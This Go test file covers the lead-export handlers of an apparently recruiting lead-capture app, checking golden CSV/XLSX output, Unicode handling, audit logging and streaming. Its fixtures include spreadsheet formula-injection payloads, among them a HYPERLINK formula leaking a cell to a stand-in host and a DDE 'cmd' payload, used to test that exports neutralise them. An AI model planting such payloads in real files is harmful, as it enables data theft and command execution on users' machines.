package handlers

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/boothlead/boothlead/export"
	"github.com/boothlead/boothlead/models"
	"github.com/boothlead/boothlead/models/modelstest"
)

var updateGolden = flag.Bool("update", false, "rewrite handlers/testdata/export-*.golden")

// exportEvent creates a live event with a real name in Berlin time (November: UTC+1).
func exportEvent(t testing.TB, a *testApp, slug, name string, interests string) models.Event {
	t.Helper()
	ev, err := models.ApplyEventInput(models.Event{}, models.EventInput{Name: name, Slug: slug, Company: "Acme Robotics",
		StartsOn: "2026-11-25", EndsOn: "2026-11-26", TimeZone: "Europe/Berlin", Interests: interests,
		Status: models.StatusLive})
	if err != nil {
		t.Fatal(err)
	}
	if ev, err = a.store.CreateEvent(context.Background(), 0, ev, "", ""); err != nil {
		t.Fatal(err)
	}
	return ev
}

// exportStaff creates a staff account with a full name.
func exportStaff(t testing.TB, a *testApp, email, name string) models.StaffUser {
	t.Helper()
	u, err := models.NewStaffUser(models.StaffInput{Email: email, Name: name, Role: models.RoleStaff, Password: modelstest.Password})
	if err != nil {
		t.Fatal(err)
	}
	if u, err = a.store.CreateStaffUser(context.Background(), u); err != nil {
		t.Fatal(err)
	}
	return u
}

func exportUTC(s string) time.Time {
	t, err := time.Parse("2006-01-02 15:04", s)
	if err != nil {
		panic(err)
	}
	return t
}

// goldenLeads are the leads of the golden files, with fixed ids and times: a Latin name with a
// comma and quotes in the company and two conversations; a Chinese name with a formula in the
// message; a Greek/Hebrew name with multi-line notes and cells starting with + @ - and TAB; an
// unresolved badge scan (no name, no email) with its raw vCard.
func goldenLeads(dana, noa models.StaffUser) []models.SeedLead {
	withdrawn := exportUTC("2026-11-26 08:00")
	return []models.SeedLead{
		{ID: "0b9c1c0e-0000-4000-8000-000000000001", Name: "Ana María Souza", Email: "ana.souza@example.com",
			Phone: "0176 5550101", Company: `Acme, Inc. "Widgets"`, Title: "Senior Backend Engineer",
			LinkedIn: "https://www.linkedin.com/in/ana-souza", GitHub: "https://github.com/anasouza",
			CVURL: "https://cv.example.com/ana.pdf", Message: "Interested in platform roles, remote or Berlin.",
			Interests: []string{"Backend", "Platform, SRE"}, Source: models.SourceSelfCheckIn, VisitCount: 2,
			FirstSeen: exportUTC("2026-11-25 09:03"), LastSeen: exportUTC("2026-11-26 10:30"),
			Consents: []models.SeedConsent{
				{Purpose: models.PurposeContact, CapturedBy: models.CapturedByCandidate, At: exportUTC("2026-11-25 09:03")},
				{Purpose: models.PurposeTalentPool, CapturedBy: models.CapturedByCandidate, At: exportUTC("2026-11-25 09:03"), WithdrawnAt: &withdrawn},
			},
			Conversations: []models.SeedConversation{
				{StaffID: dana.ID, At: exportUTC("2026-11-25 09:10"), Rating: "warm", Notes: "Strong Go, wants remote."},
				{StaffID: noa.ID, At: exportUTC("2026-11-26 10:35"), Rating: "hot", Notes: "Met the platform team lead.",
					FollowUp: "Send the platform job ad"},
			}},
		{ID: "0b9c1c0e-0000-4000-8000-000000000002", Name: "李小龙", Email: "xiaolong.li@example.cn", Company: "腾讯",
			Title: "后端工程师", Message: `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
			Interests: []string{"Backend"}, Source: models.SourceBadgeScan,
			BadgeCode: "BEGIN:VCARD\nVERSION:3.0\nFN:李小龙\nEND:VCARD", FirstSeen: exportUTC("2026-11-25 13:00"),
			LastSeen: exportUTC("2026-11-25 13:00"),
			Consents: []models.SeedConsent{{Purpose: models.PurposeContact, CapturedBy: models.CapturedByStaff, At: exportUTC("2026-11-25 13:01")}},
			Conversations: []models.SeedConversation{
				{StaffID: dana.ID, At: exportUTC("2026-11-25 13:02"), Notes: "Asked about visa sponsorship."},
			}},
		{ID: "0b9c1c0e-0000-4000-8000-000000000003", Name: "Ελένη כהן", Email: "eleni@example.gr", Phone: "+49 170 1234567",
			Company: "\tTab Corp", Title: "-1", GitHub: "@eleni-dev", Message: "שלום! I build compilers.\nSecond line",
			Interests: []string{"Compilers"}, Source: models.SourceStaffManual, FirstSeen: exportUTC("2026-11-26 11:00"),
			LastSeen: exportUTC("2026-11-26 11:00"),
			Consents: []models.SeedConsent{
				{Purpose: models.PurposeContact, CapturedBy: models.CapturedByStaff, At: exportUTC("2026-11-26 11:00")},
				{Purpose: models.PurposeTalentPool, CapturedBy: models.CapturedByStaff, At: exportUTC("2026-11-26 11:01")},
			},
			Conversations: []models.SeedConversation{
				{StaffID: noa.ID, At: exportUTC("2026-11-26 11:05"), Rating: "cold", Notes: "Line one\nLine two\n\n- bullet: =SUM(A1)"},
			}},
		{ID: "0b9c1c0e-0000-4000-8000-000000000004", Source: models.SourceBadgeScan, BadgeCode: "TKT-7F3A-99",
			FirstSeen: exportUTC("2026-11-26 15:20"), LastSeen: exportUTC("2026-11-26 15:20")},
		{ID: "0b9c1c0e-0000-4000-8000-000000000005", Name: "Madonna", Email: "-dash+tag@example.com",
			Phone: "+1 (555) 123-4567", Company: "Acme;=cmd|' /C calc'!A0", Title: "00123",
			Message: "1/2 day\n;=3+3", Interests: []string{"Backend"}, Tags: []string{"shortlist"},
			Source: models.SourceSelfCheckIn, FirstSeen: exportUTC("2026-11-26 16:00"), LastSeen: exportUTC("2026-11-26 16:00"),
			Consents: []models.SeedConsent{{Purpose: models.PurposeContact, CapturedBy: models.CapturedByCandidate, At: exportUTC("2026-11-26 16:00")}}},
		{ID: "0b9c1c0e-0000-4000-8000-000000000006", Name: "Nico Noconsent", Email: "nico@example.org",
			Source: models.SourceSelfCheckIn, FirstSeen: exportUTC("2026-11-26 16:30"), LastSeen: exportUTC("2026-11-26 16:30")},
	}
}

// TestExportGolden: each preset's file for fixed leads, as CSV and as XLSX (its sheet), is byte
// for byte the golden one (`go test ./handlers -run Export -update` rewrites them); the Excel
// CSV is the same file after a BOM.
func TestExportGolden(t *testing.T) {
	t.Parallel()
	a := newTestApp(t)
	ev := exportEvent(t, a, "gophercon-eu-2026", "GopherCon EU 2026", "Backend,\"Platform, SRE\",Compilers")
	dana := exportStaff(t, a, "dana@example.com", "Dana Fischer")
	noa := exportStaff(t, a, "noa@example.com", "נועה לוי")
	if err := a.store.SeedLeads(context.Background(), ev, goldenLeads(dana, noa)); err != nil {
		t.Fatal(err)
	}
	c := a.signedIn("rita@example.com", models.RoleRecruiter)
	for _, p := range export.Presets() {
		res := c.get("/events/gophercon-eu-2026/export.csv?preset=" + string(p.Preset))
		wantStatus(t, res, http.StatusOK)
		exportGolden(t, "export-"+string(p.Preset)+".golden", res.body)
		excel := c.get("/events/gophercon-eu-2026/export.csv?bom=1&preset=" + string(p.Preset))
		if excel.body != "\xEF\xBB\xBF"+res.body {
			t.Errorf("%s: the Excel CSV is not the CSV after a BOM", p.Preset)
		}
		x := c.get("/events/gophercon-eu-2026/export.xlsx?preset=" + string(p.Preset))
		wantStatus(t, x, http.StatusOK)
		if ct := x.header.Get("Content-Type"); ct != export.XLSXContentType {
			t.Errorf("XLSX Content-Type %q", ct)
		}
		sheet := xlsxSheet(t, []byte(x.body))
		exportGolden(t, "export-"+string(p.Preset)+".xlsx-sheet.golden", string(sheet))
	}
}

// xlsxSheet returns the sheet of an exported workbook, one row per line.
func xlsxSheet(t testing.TB, b []byte) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("the XLSX is no zip: %v", err)
	}
	f, err := zr.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return bytes.ReplaceAll(sheet, []byte("<row "), []byte("\n<row "))
}

// exportGolden compares got with testdata/name, or rewrites it with -update.
func exportGolden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run `go test ./handlers -run Export -update` once)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs:\n%s", path, exportFirstDiff(got, string(want)))
	}
}

func exportFirstDiff(got, want string) string {
	for i := 0; i < len(got) && i < len(want); i++ {
		if got[i] != want[i] {
			lo := max(0, i-80)
			return fmt.Sprintf("at byte %d\n got: %q\nwant: %q", i, got[lo:min(len(got), i+80)], want[lo:min(len(want), i+80)])
		}
	}
	return fmt.Sprintf("lengths %d and %d", len(got), len(want))
}

// TestExportRoundTripsAnyTextAndNeutralisesFormulas: every script, commas, quotes and line
// breaks come back unchanged through encoding/csv; every payload a spreadsheet would run comes
// back with a leading quote, in whichever field it was typed.
func TestExportRoundTripsAnyTextAndNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	a := newTestApp(t)
	ctx := context.Background()
	ev := exportEvent(t, a, "scripts", "Scripts & Payloads", "Go")
	texts := []string{
		"Zoë Ångström-Łukasiewicz", "Ελένη Παπαδοπούλου", "Дмитрий Шостакович", "李小龙", "佐藤 結衣", "김민준",
		"ليلى الحسيني", "נועה כהן", "प्रिया शर्मा", "สมชาย ใจดี", "Nguyễn Văn An", "Adébáyọ̀ Okafor",
		`O'Brien, "Jr."`, "comma, inside", `quote " inside`, "two\nlines", "trailing space ", "emoji 👩🏽‍💻",
	}
	payloads := []string{
		"=1+2", "+49 170 1234567", "-2+3", "@SUM(A1:A2)", "\t=cmd", "=HYPERLINK(\"http://evil.example\",\"x\")",
		`=1+2";=1+2`, "=1+2'\" ;,=1+2", " =with leading space", "\u200b=after zero-width space", "\u200f@rlm",
		"-", "=", "'already quoted",
	}
	var seed []models.SeedLead
	for i, s := range append(append([]string{}, texts...), payloads...) {
		at := exportUTC("2026-11-25 10:00").Add(time.Duration(i) * time.Minute)
		seed = append(seed, models.SeedLead{ID: fmt.Sprintf("00000000-0000-4000-8000-%012d", i), Name: s,
			Email: fmt.Sprintf("p%d@example.com", i), Company: s, Title: s, Message: s, Phone: s,
			Source: models.SourceSelfCheckIn, FirstSeen: at, LastSeen: at})
	}
	if err := a.store.SeedLeads(ctx, ev, seed); err != nil {
		t.Fatal(err)
	}
	c := a.signedIn("rita@example.com", models.RoleRecruiter)
	res := c.get("/events/scripts/export.csv?preset=generic&sort=first_seen&dir=asc")
	wantStatus(t, res, http.StatusOK)
	if i := strings.Index(strings.ReplaceAll(res.body, "\r\n", "  "), "\n"); i >= 0 {
		t.Fatalf("a bare LF at byte %d: every line break in the file is CRLF (RFC 4180)", i)
	}
	records, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(seed)+1 {
		t.Fatalf("%d records, want %d", len(records), len(seed)+1)
	}
	col := map[string]int{}
	for i, h := range records[0] {
		col[h] = i
	}
	asTyped := map[string]bool{"+49 170 1234567": true, "-": true, "'already quoted": true}
	for i, r := range records[1:] {
		orig := seed[i].Name
		want := orig
		if i >= len(texts) {
			want = export.Neutralize(orig)
			if want == orig && !asTyped[orig] {
				t.Fatalf("payload %q is not neutralised by export.Neutralize", orig)
			}
		}
		for _, h := range []string{"Full Name", "Company", "Title", "Message", "Phone"} {
			if got := r[col[h]]; got != want {
				t.Errorf("%s of lead %d: got %q, want %q", h, i, got, want)
			}
		}
		for _, cell := range r {
			if export.Neutralize(cell) != cell {
				t.Errorf("lead %d: a cell starts a formula: %q", i, cell)
			}
		}
	}
}

// TestExportHoldsExactlyTheFilterAndIsAudited: the export link of a filtered table downloads
// the table's leads, with the download headers, and writes one audit row without the search text.
func TestExportHoldsExactlyTheFilterAndIsAudited(t *testing.T) {
	t.Parallel()
	a := newTestApp(t)
	ctx := context.Background()
	ev := exportEvent(t, a, "pycon", "PyCon", "Backend,Data")
	s1 := exportStaff(t, a, "s1@example.com", "Sam One")
	leads := models.DemoLeads(models.DemoOptions{Leads: 150, Days: []time.Time{exportUTC("2026-11-24 23:00"), exportUTC("2026-11-25 23:00")},
		Interests: ev.Interests, Staff: []int64{s1.ID}, Seed: 7})
	if err := a.store.SeedLeads(ctx, ev, leads); err != nil {
		t.Fatal(err)
	}
	c := a.signedIn("rita@example.com", models.RoleRecruiter)
	page := c.get("/events/pycon/leads?rating=hot&rating=warm&interest=Data&q=example&sort=name")
	wantStatus(t, page, http.StatusOK)
	links := page.testid("export-csv")
	if links.Length() != 3 {
		t.Fatalf("%d export links", links.Length())
	}
	href, _ := links.First().Attr("href")
	u, _ := url.Parse(href)
	q := u.Query()
	if u.Path != "/events/pycon/export.csv" || q.Get("preset") != "generic" || q.Get("interest") != "Data" ||
		q.Get("q") != "example" || strings.Join(q["rating"], ",") != "hot,warm" || q.Get("sort") != "name" {
		t.Fatalf("export link %q does not carry the filter", href)
	}
	f, _ := models.ParseLeadFilter(q, ev)
	counts, _ := a.store.CountLeadsFiltered(ctx, ev.ID, f)
	if menu := page.doc.Find(`[data-testid="export-csv"][data-preset="generic"]`).Text(); !strings.Contains(menu,
		fmt.Sprintf("Export %d leads", counts.Matching)) || counts.Matching == 0 {
		t.Errorf("export menu %q, %d match", menu, counts.Matching)
	}
	res := c.get(href + "&bom=1")
	wantStatus(t, res, http.StatusOK)
	if ct := res.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	day := time.Now().In(ev.Location()).Format("2006-01-02")
	if cd := res.header.Get("Content-Disposition"); cd != `attachment; filename="boothlead-pycon-generic-excel-`+day+`.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if !strings.HasPrefix(res.body, "\xEF\xBB\xBFLead ID,") {
		t.Errorf("bom=1 must start the file with the UTF-8 BOM: %q", res.body[:12])
	}
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.body, "\xEF\xBB\xBF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(records)-1) != counts.Matching {
		t.Fatalf("exported %d rows, the table counts %d", len(records)-1, counts.Matching)
	}
	rating, interests := slices.Index(records[0], "Rating"), slices.Index(records[0], "Interests")
	for _, r := range records[1:] {
		if (r[rating] != "hot" && r[rating] != "warm") || !strings.Contains(r[interests], "Data") {
			t.Fatalf("row outside the filter: %v %v", r[rating], r[interests])
		}
	}

	var rows []models.AuditEntry
	if err := a.db.Gorm.Raw(`SELECT actor_id, action, event_id, subject_id, details::text AS details FROM audit_log
		WHERE action = 'export'`).Scan(&rows).Error; err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1 {
		t.Fatalf("%d audit rows", len(rows))
	}
	var details struct {
		Preset, Via string
		Rows        int64
		BOM         bool
		Complete    bool
		Filter      map[string]any
	}
	if err := json.Unmarshal([]byte(rows[0].Details), &details); err != nil {
		t.Fatal(err)
	}
	if rows[0].ActorID == nil || *rows[0].EventID != ev.ID || details.Rows != counts.Matching || details.Preset != "generic" ||
		details.Via != "web" || !details.BOM || !details.Complete || details.Filter["interest"] != "Data" ||
		details.Filter["text_search"] != true {
		t.Errorf("audit row %+v %+v", rows[0], details)
	}
	if strings.Contains(rows[0].Details, "example") {
		t.Errorf("the audit row holds the search text: %s", rows[0].Details)
	}
	if m := c.get("/metrics"); !strings.Contains(m.body, "boothlead_exports_total 1") {
		t.Error("the export is not counted in /metrics")
	}
}

func TestExportRefusesBadLinksWithAPage(t *testing.T) {
	t.Parallel()
	a := newTestApp(t)
	exportEvent(t, a, "bad", "Bad Links", "Go")
	c := a.signedIn("rita@example.com", models.RoleRecruiter)
	for _, q := range []string{"preset=excel", "preset=generic&rating=tepid", "from=yesterday"} {
		res := c.get("/events/bad/export.csv?" + q)
		wantStatus(t, res, http.StatusBadRequest)
		if res.header.Get("Content-Disposition") != "" || !strings.HasPrefix(res.header.Get("Content-Type"), "text/html") {
			t.Errorf("%s: an error must be a page, not a download: %v", q, res.header)
		}
	}
	wantStatus(t, c.get("/events/nope/export.csv"), http.StatusNotFound)
	var n int64
	a.db.Gorm.Raw("SELECT count(*) FROM audit_log WHERE action = 'export'").Scan(&n)
	if n != 0 {
		t.Errorf("%d audit rows for refused exports", n)
	}
}

// TestExportOfNoLeadsIsAHeader: an empty filter result is a file with the header row only.
func TestExportOfNoLeadsIsAHeader(t *testing.T) {
	t.Parallel()
	a := newTestApp(t)
	exportEvent(t, a, "empty", "Empty", "Go")
	c := a.signedIn("rita@example.com", models.RoleRecruiter)
	res := c.get("/events/empty/export.csv?preset=lever")
	wantStatus(t, res, http.StatusOK)
	if res.body != strings.Join(export.Header(export.Lever), ",")+"\r\n" {
		t.Errorf("empty export %q", res.body)
	}
}

// TestExportStreamsBatchByBatch: more leads than one batch arrive complete, chunked (no
// Content-Length: the file is never built in memory first).
func TestExportStreamsBatchByBatch(t *testing.T) {
	t.Parallel()
	a := newTestApp(t)
	ctx := context.Background()
	ev := exportEvent(t, a, "many", "Many", "Go")
	n := models.DefaultExportBatch*2 + 17
	seed := make([]models.SeedLead, n)
	for i := range seed {
		at := exportUTC("2026-11-25 10:00").Add(time.Duration(i) * time.Second)
		seed[i] = models.SeedLead{Name: fmt.Sprintf("Lead %d", i), Email: fmt.Sprintf("l%d@example.com", i),
			Source: models.SourceSelfCheckIn, FirstSeen: at, LastSeen: at,
			Conversations: []models.SeedConversation{{At: at, Notes: "a note"}, {At: at.Add(time.Minute), Notes: "another"}}}
	}
	if err := a.store.SeedLeads(ctx, ev, seed); err != nil {
		t.Fatal(err)
	}
	c := a.signedIn("rita@example.com", models.RoleRecruiter)
	req, _ := http.NewRequest(http.MethodGet, a.ts.URL+"/events/many/export.csv?preset=generic", nil)
	req.Header.Set("Accept-Encoding", "identity")
	res := c.do(req)
	wantStatus(t, res, http.StatusOK)
	if res.header.Get("Content-Length") != "" {
		t.Error("the export was buffered whole (Content-Length set)")
	}
	records, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	if err != nil || len(records) != n+1 {
		t.Fatalf("%d records (%v), want %d", len(records), err, n+1)
	}
	seen := map[string]bool{}
	for _, r := range records[1:] {
		if seen[r[0]] || r[len(r)-1] != "2" {
			t.Fatalf("lead %s twice or without its two conversations", r[0])
		}
		seen[r[0]] = true
	}
}
